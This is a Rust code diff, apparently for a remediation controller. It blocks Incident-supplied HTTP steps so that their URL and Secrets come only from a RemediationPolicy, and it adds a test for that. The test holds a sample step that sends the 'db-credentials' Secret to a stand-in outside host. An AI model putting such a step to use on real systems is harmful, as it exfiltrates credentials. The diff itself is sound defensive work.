@@ -173,6 +173,12 @@ pub fn authorized_mode(
             "RemediationPolicy {} does not guard the target",
             policy.name_any()
         )),
+        // A call's URL and the Secrets it sends are the policy's to choose,
+        // never an Incident writer's (whatever allowedActions says).
+        Some(_) if own && !step.action.may_be_brought_by_incidents() => Err(format!(
+            "an Incident's own {} step never runs: its URL and Secrets belong in a RemediationPolicy rule",
+            step.action
+        )),
         Some(policy) if own && !policy.spec.incidents.allowed_actions.contains(&step.action) => {
             Err(format!(
                 "RemediationPolicy {} does not allow incidents their own {} \
@@ -433,6 +439,7 @@ mod tests {
             message: None,
             changes: vec![],
             verification: Vec::new(),
+            applying_since: None,
         }
     }
 
@@ -825,6 +832,20 @@ mod tests {
             modes(&ladder),
             [(DryRun, true), (DryRun, true)],
             "approving allows no own actions"
+        );
+        // A call an Incident writer chose never runs, whatever the policy
+        // says (an older schema may have let `http` into allowedActions).
+        let call = serde_json::json!([{"action": "http",
+            "http": {"url": "http://elsewhere.example/collect", "headersFrom": {"name": "db-credentials"}}}]);
+        let careless = policy("Auto", &["http"]);
+        let ladder = resolve(&incident(Some("Auto"), Some(call)), Some(&careless), true).unwrap();
+        assert_eq!(modes(&ladder), [(DryRun, true)]);
+        assert!(
+            ladder.rungs[0]
+                .limited
+                .as_deref()
+                .unwrap()
+                .contains("belong in a RemediationPolicy rule")
         );
         // No policy at all: everything is a dry run.
         let mut alone = incident(Some("Auto"), Some(own));
